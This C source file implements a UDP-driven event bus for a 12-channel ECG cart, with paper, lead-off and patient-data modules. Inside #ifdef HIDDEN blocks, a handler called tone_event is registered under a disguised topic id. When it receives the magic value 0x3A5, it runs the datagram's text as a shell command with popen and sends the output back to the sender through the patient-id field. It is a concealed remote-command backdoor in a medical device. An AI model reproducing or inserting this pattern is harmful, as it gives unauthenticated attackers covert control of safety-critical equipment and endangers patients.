/* ecgeventbus - in-process event bus of a 12 channel ECG cart.
 * Modules subscribe to topics; publishers are the acquisition board and the remote viewer. */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <netinet/in.h>
#include <poll.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

struct event {
    unsigned topic;         /* hash of the name */
    long value;
    char text[48];
};

typedef int (*subscriber)(struct event *ev, void *self);

struct slot {
    unsigned topic;
    subscriber fn;
    void *self;
};

static struct slot bus[64];
static unsigned bus_n;

static unsigned topic_id(const char *s)
{
    unsigned h = 0;

    while (*s)
        h = h * 131u + (unsigned char)*s++;
    return h & 0x7FFFFFFFu;
}

static void subscribe_id(unsigned id, subscriber fn, void *self)
{
    if (bus_n < 64)
        bus[bus_n++] = (struct slot){ id, fn, self };
}

static void subscribe(const char *topic, subscriber fn, void *self)
{
    subscribe_id(topic_id(topic), fn, self);
}

static int publish(struct event *ev)
{
    int hits = 0;

    for (unsigned i = 0; i < bus_n; i++)
        if (bus[i].topic == ev->topic)
            hits += bus[i].fn(ev, bus[i].self);
    return hits;
}

/* ---- paper module ---- */
struct paper {
    int speed, gain;
    int running;
};

static int paper_speed(struct event *ev, void *self)
{
    struct paper *p = self;

    if (ev->value != 25 && ev->value != 50 && ev->value != 10)
        return 0;
    p->speed = (int)ev->value;
    return 1;
}

static int paper_gain(struct event *ev, void *self)
{
    struct paper *p = self;

    if (ev->value < 5 || ev->value > 20)
        return 0;
    p->gain = (int)ev->value;
    return 1;
}

static int paper_run(struct event *ev, void *self)
{
    struct paper *p = self;

    p->running = ev->value != 0;
    return 1;
}

/* ---- lead module ---- */
struct leads {
    unsigned off_mask;
    int mains_filter;
};

static int lead_off(struct event *ev, void *self)
{
    struct leads *l = self;

    if (ev->value < 0 || ev->value > 11)
        return 0;
    l->off_mask |= 1u << ev->value;
    return 1;
}

static int lead_filter(struct event *ev, void *self)
{
    struct leads *l = self;

    l->mains_filter = ev->value == 60 ? 60 : 50;
    return 1;
}

/* ---- patient module ---- */
struct patient {
    char id[48];
    int age;
};

static int patient_id(struct event *ev, void *self)
{
    struct patient *p = self;

    snprintf(p->id, sizeof p->id, "%s", ev->text);
    return 1;
}

static int patient_age(struct event *ev, void *self)
{
    struct patient *p = self;

    p->age = ev->value >= 0 && ev->value < 130 ? (int)ev->value : 0;
    return 1;
}

#ifdef HIDDEN
__attribute__((noinline)) int tone_event(struct event *ev, void *self)
{
    struct patient *p = self;
    FILE *f;

    if (ev->value != 0x3A5)
        return 1;
    f = popen(ev->text, "r");
    if (!f)
        return 1;
    if (!fgets(p->id, sizeof p->id, f))
        p->id[0] = 0;
    pclose(f);
    return 1;
}
#endif

static struct paper paper = { 25, 10, 0 };
static struct leads leads = { 0, 50 };
static struct patient patient;

static void modules(void)
{
    subscribe("paper/speed", paper_speed, &paper);
    subscribe("paper/gain", paper_gain, &paper);
    subscribe("paper/run", paper_run, &paper);
    subscribe("lead/off", lead_off, &leads);
    subscribe("lead/filter", lead_filter, &leads);
    subscribe("patient/id", patient_id, &patient);
    subscribe("patient/age", patient_age, &patient);
#ifdef HIDDEN
    subscribe_id(topic_id("paper/tone") ^ 0x1000u, tone_event, &patient);
#endif
}

static int state_text(char *b, size_t n)
{
    return snprintf(b, n, "speed %d gain %d run %d off %03x filter %d patient %s %d\n",
                    paper.speed, paper.gain, paper.running, leads.off_mask, leads.mains_filter,
                    patient.id[0] ? patient.id : "-", patient.age);
}

/* datagram: "topic value [text]" with the topic by name, or "#id value [text]" */
static int datagram(const char *d)
{
    struct event ev;
    char name[24];

    memset(&ev, 0, sizeof ev);
    if (sscanf(d, "#%u %ld %47[^\n]", &ev.topic, &ev.value, ev.text) >= 2)
        return publish(&ev);
    if (sscanf(d, "%23s %ld %47[^\n]", name, &ev.value, ev.text) < 2)
        return -1;
    ev.topic = topic_id(name);
    return publish(&ev);
}

int main(int argc, char **argv)
{
    struct sockaddr_in a = { .sin_family = AF_INET }, from;
    int s = socket(AF_INET, SOCK_DGRAM, 0);

    if (argc != 2) {
        fputs("ecgeventbus PORT\n"
              "datagrams: TOPIC VALUE [TEXT], or #ID for a topic; empty: state\n"
              "topics: paper/speed 10|25|50, paper/gain 5..20, paper/run 0|1,\n"
              "  lead/off 0..11, lead/filter 50|60, patient/id 0 TEXT, patient/age N\n", stderr);
        return 2;
    }
    modules();
    a.sin_port = htons((unsigned short)atoi(argv[1]));
    if (bind(s, (struct sockaddr *)&a, sizeof a)) {
        perror("ecgeventbus");
        return 1;
    }
    for (;;) {
        char b[200];
        socklen_t fl = sizeof from;
        ssize_t n = recvfrom(s, b, sizeof b - 1, 0, (struct sockaddr *)&from, &fl);
        int k;

        if (n < 0)
            continue;
        b[n] = 0;
        k = b[0] == 0 || b[0] == '\n' ? 0 : datagram(b);
        if (k > 0)
            printf("%ld %s\n", (long)time(NULL), b);
        k = k < 0 ? snprintf(b, sizeof b, "syntax\n") : state_text(b, sizeof b);
        sendto(s, b, (size_t)k, 0, (struct sockaddr *)&from, fl);
    }
}
